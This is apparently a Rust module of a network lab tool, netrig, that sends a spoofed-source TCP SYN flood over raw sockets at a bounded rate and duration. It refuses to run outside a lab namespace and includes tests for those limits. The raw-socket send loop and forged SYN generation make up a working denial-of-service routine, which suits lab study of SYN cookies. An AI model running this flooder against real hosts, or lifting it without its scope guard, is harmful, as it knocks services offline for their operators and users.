//! netrig's SYN flood generator: TCP SYNs from random sources in the attacker host's own lab
//! segments, through a raw socket (IPv4 with the header included; IPv6 through IPPROTO_RAW),
//! at a bounded rate for a bounded time, refused outside a lab ([`super::scope`]).
//!
//! The sources are addresses no lab host holds, on the attacker's segments: the target's
//! SYN-ACKs go towards a neighbour that never answers, so each SYN leaves a request socket
//! (SYN_RECV) in the target until its SYN-ACK retries run out, as in the flood the IA64 study
//! describes; with the listen queue full the target sends SYN cookies (`tcp_syncookies` = 1)
//! or drops new connections (`tcp_syncookies` = 0).

use super::packet::{syn_v4, syn_v6, Syn, V4_LEN, V6_LEN};
use super::scope::{self, Scope};
use serde::Serialize;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// The highest rate netrig floods at, packets per second.
pub const MAX_RATE_PPS: u32 = 200_000;
/// The longest flood, seconds.
pub const MAX_LENGTH_S: f64 = 60.0;
/// Counts kept per this period, for a time series.
pub const INTERVAL: Duration = Duration::from_millis(250);

/// What to flood.
#[derive(Debug, Clone)]
pub struct Options {
    pub to: SocketAddr,
    pub rate_pps: u32,
    pub length: Duration,
}

/// Checks the bounds; the error names the option and the limit.
pub fn check(o: &Options) -> Result<(), String> {
    if o.rate_pps == 0 || o.rate_pps > MAX_RATE_PPS {
        return Err(format!(
            "--rate {}: netrig floods at 1 to {MAX_RATE_PPS} packets/s (netrig's limit)",
            o.rate_pps
        ));
    }
    let s = o.length.as_secs_f64();
    if !(s > 0.0 && s <= MAX_LENGTH_S) {
        return Err(format!(
            "--length {s}: a flood lasts more than 0 and at most {MAX_LENGTH_S} s (netrig's limit)"
        ));
    }
    if o.to.port() == 0 {
        return Err("--to: give the target's port (ADDR:PORT), not 0".into());
    }
    Ok(())
}

/// SYNs sent in one interval.
#[derive(Debug, Clone, Copy, Serialize)]
pub struct Interval {
    pub start_s: f64,
    pub end_s: f64,
    pub sent: u64,
    pub pps: f64,
}

/// What the flood did.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    pub lab: String,
    pub host: String,
    pub target: SocketAddr,
    pub target_host: String,
    pub rate_asked_pps: u32,
    pub length_asked_s: f64,
    /// The networks the sources were drawn from.
    pub sources: Vec<String>,
    /// When the flood began, seconds since the Unix epoch (the time axis it shares with others).
    pub started_unix_s: f64,
    /// SYNs the kernel took (sendto returned), over `window_s`.
    pub sent: u64,
    pub window_s: f64,
    pub rate_pps: f64,
    /// Sends that failed (ENOBUFS, ...), and the first error.
    pub send_errors: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub first_error: Option<String>,
    pub intervals: Vec<Interval>,
}

fn raw_socket(v4: bool) -> Result<OwnedFd, String> {
    let family = if v4 { libc::AF_INET } else { libc::AF_INET6 };
    // SAFETY: a plain socket(2) call; the descriptor is owned at once.
    let fd = unsafe { libc::socket(family, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(format!(
            "raw socket (needs root or CAP_NET_RAW): {}",
            std::io::Error::last_os_error()
        ));
    }
    // SAFETY: fd is a new descriptor nothing else owns.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn send_to(fd: &OwnedFd, pkt: &[u8], to: IpAddr) -> std::io::Result<()> {
    // The port of a raw socket's address is not used (the TCP header carries it).
    let sa: socket2_free::SockAddr = to.into();
    // SAFETY: pkt and the address outlive the call; their lengths are given.
    let r = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            pkt.as_ptr().cast(),
            pkt.len(),
            libc::MSG_DONTWAIT,
            sa.ptr(),
            sa.len(),
        )
    };
    if r < 0 {
        Err(std::io::Error::last_os_error())
    } else {
        Ok(())
    }
}

/// A sockaddr for an address, without pulling in a socket crate.
mod socket2_free {
    use std::net::IpAddr;

    pub enum SockAddr {
        V4(libc::sockaddr_in),
        V6(libc::sockaddr_in6),
    }

    impl From<IpAddr> for SockAddr {
        fn from(a: IpAddr) -> SockAddr {
            match a {
                IpAddr::V4(a) => {
                    // SAFETY: all-zero is a valid sockaddr_in.
                    let mut s: libc::sockaddr_in = unsafe { std::mem::zeroed() };
                    s.sin_family = libc::AF_INET as libc::sa_family_t;
                    s.sin_addr.s_addr = u32::from_ne_bytes(a.octets());
                    SockAddr::V4(s)
                }
                IpAddr::V6(a) => {
                    // SAFETY: all-zero is a valid sockaddr_in6.
                    let mut s: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
                    s.sin6_family = libc::AF_INET6 as libc::sa_family_t;
                    s.sin6_addr.s6_addr = a.octets();
                    SockAddr::V6(s)
                }
            }
        }
    }

    impl SockAddr {
        pub fn ptr(&self) -> *const libc::sockaddr {
            match self {
                SockAddr::V4(s) => (s as *const libc::sockaddr_in).cast(),
                SockAddr::V6(s) => (s as *const libc::sockaddr_in6).cast(),
            }
        }
        pub fn len(&self) -> libc::socklen_t {
            (match self {
                SockAddr::V4(_) => std::mem::size_of::<libc::sockaddr_in>(),
                SockAddr::V6(_) => std::mem::size_of::<libc::sockaddr_in6>(),
            }) as libc::socklen_t
        }
    }
}

/// xorshift64*: fast, and good enough to spread sources, ports and sequence numbers.
struct Rng(u64);

impl Rng {
    fn new() -> Rng {
        let mut b = [0u8; 8];
        let _ = getrandom::fill(&mut b);
        Rng(u64::from_ne_bytes(b) | 1)
    }
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// Floods from the calling thread's namespace, which must be a lab host's ([`scope::check_here`]),
/// until `o.length` has passed or `stop` is set.
pub fn run(o: &Options, stop: &AtomicBool) -> Result<Report, String> {
    check(o)?;
    let scope = scope::check_here(o.to.ip())?;
    run_in(&scope, o, stop)
}

fn run_in(scope: &Scope, o: &Options, stop: &AtomicBool) -> Result<Report, String> {
    let v4 = o.to.is_ipv4();
    if scope.source(1).is_none() {
        return Err(format!(
            "host {} of lab {} has no {} segment with a free address to send from",
            scope.host,
            scope.lab,
            if v4 { "IPv4" } else { "IPv6" }
        ));
    }
    let fd = raw_socket(v4)?;
    let mut rng = Rng::new();
    let (mut b4, mut b6) = ([0u8; V4_LEN], [0u8; V6_LEN]);
    let started_unix_s = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0.0, |d| d.as_secs_f64());
    let t0 = Instant::now();
    let rate = f64::from(o.rate_pps);
    let (mut sent, mut errors, mut first_error) = (0u64, 0u64, None);
    let mut intervals = Vec::new();
    let (mut iv_start, mut iv_sent) = (0.0f64, 0u64);
    loop {
        let now = t0.elapsed();
        let t = now.as_secs_f64();
        if t - iv_start >= INTERVAL.as_secs_f64() || now >= o.length || stop.load(Ordering::Relaxed) {
            let d = t - iv_start;
            intervals.push(Interval {
                start_s: iv_start,
                end_s: t,
                sent: sent - iv_sent,
                pps: if d > 0.0 { (sent - iv_sent) as f64 / d } else { 0.0 },
            });
            iv_start = t;
            iv_sent = sent;
        }
        if now >= o.length || stop.load(Ordering::Relaxed) {
            break;
        }
        let due = (t * rate) as u64;
        let mut batch = 0;
        while sent + errors < due && batch < 512 {
            let r = rng.next();
            let syn = Syn {
                sport: 1024 + (r % 64512) as u16,
                dport: o.to.port(),
                seq: (r >> 32) as u32,
                id: (r >> 16) as u16,
            };
            let src = scope.source(rng.next()).expect("checked above");
            let res = match (src, o.to.ip()) {
                (IpAddr::V4(s), IpAddr::V4(d)) => {
                    syn_v4(s, d, &syn, &mut b4);
                    send_to(&fd, &b4, o.to.ip())
                }
                (IpAddr::V6(s), IpAddr::V6(d)) => {
                    syn_v6(s, d, &syn, &mut b6);
                    send_to(&fd, &b6, o.to.ip())
                }
                _ => unreachable!("sources are of the target's family"),
            };
            match res {
                Ok(()) => sent += 1,
                Err(e) => {
                    errors += 1;
                    first_error.get_or_insert_with(|| e.to_string());
                }
            }
            batch += 1;
        }
        if sent + errors >= due {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
    let window_s = t0.elapsed().as_secs_f64();
    Ok(Report {
        lab: scope.lab.clone(),
        host: scope.host.clone(),
        target: o.to,
        target_host: scope.target_host.clone(),
        rate_asked_pps: o.rate_pps,
        length_asked_s: o.length.as_secs_f64(),
        sources: scope.source_nets.iter().map(|n| n.to_string()).collect(),
        started_unix_s,
        sent,
        window_s,
        rate_pps: if window_s > 0.0 {
            sent as f64 / window_s
        } else {
            0.0
        },
        send_errors: errors,
        first_error,
        intervals,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn opts(rate: u32, secs: f64) -> Options {
        Options {
            to: "198.18.1.2:6387".parse().unwrap(),
            rate_pps: rate,
            length: Duration::from_secs_f64(secs),
        }
    }

    #[test]
    fn rate_and_length_are_bounded_naming_the_option_and_the_limit() {
        assert!(check(&opts(20_000, 5.0)).is_ok());
        let e = check(&opts(MAX_RATE_PPS + 1, 5.0)).unwrap_err();
        assert!(e.contains("--rate") && e.contains("200000"), "{e}");
        assert!(check(&opts(0, 5.0)).unwrap_err().contains("--rate"));
        let e = check(&opts(1000, 61.0)).unwrap_err();
        assert!(e.contains("--length") && e.contains("60"), "{e}");
    }

    #[test]
    fn outside_a_lab_it_is_refused_before_any_packet() {
        // The test runs in the machine's own namespace (or a CI container's), which no lab's
        // state names as a host's: refused by the rule, before a raw socket is opened.
        let e = run(&opts(1000, 0.1), &AtomicBool::new(false)).unwrap_err();
        assert!(e.starts_with("refused"), "{e}");
        assert!(e.contains(scope::RULE), "{e}");
    }
}
